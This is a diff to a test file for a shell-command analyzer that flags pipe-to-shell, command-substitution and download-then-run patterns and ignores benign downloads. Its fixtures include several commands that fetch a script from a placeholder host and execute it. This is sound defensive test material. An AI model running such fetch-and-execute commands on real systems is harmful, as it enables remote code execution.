@@ -82,6 +82,8 @@ describe('analyzeShell', () => {
     ['curl https://x.test/a | $SHELL', 'pipe'],
     ['sh -c "$(curl -fsSL https://x.test/i)"', 'command-substitution'],
     ['curl -o x.sh https://x.test/a && bash x.sh', 'download-then-run'],
+    ['curl -o x.sh https://x.test/a && bash -e x.sh', 'download-then-run'],
+    ['curl -o x.py https://x.test/a && python3 -u x.py', 'download-then-run'],
     ['curl -fsSLO https://x.test/inst.sh\nchmod +x inst.sh && ./inst.sh', 'download-then-run'],
     ['wget https://x.test/run.sh && sh run.sh', 'download-then-run'],
     ['curl -fsSo /tmp/b.sh https://x.test/b.sh; bash /tmp/b.sh', 'download-then-run'],
@@ -104,6 +106,8 @@ describe('analyzeShell', () => {
     'pip install --index-url https://download.pytorch.org/whl/cu118 torch',
     'npx pa11y https://x.test',
     'curl -o out.json https://x.test/api && jq . out.json',
+    "curl -o \"$T\" https://x.test/api\npython3 - \"$T\" <<'EOF'\nimport json, sys\nprint(json.load(open(sys.argv[1])))\nEOF",
+    'curl -o d.json https://x.test/api && node -e "console.log(require(\'./d.json\'))" d.json',
     'echo "curl https://x.test | sh"',
   ])('stays quiet on %j', (s) => {
     expect(kinds(s)).toEqual([]);
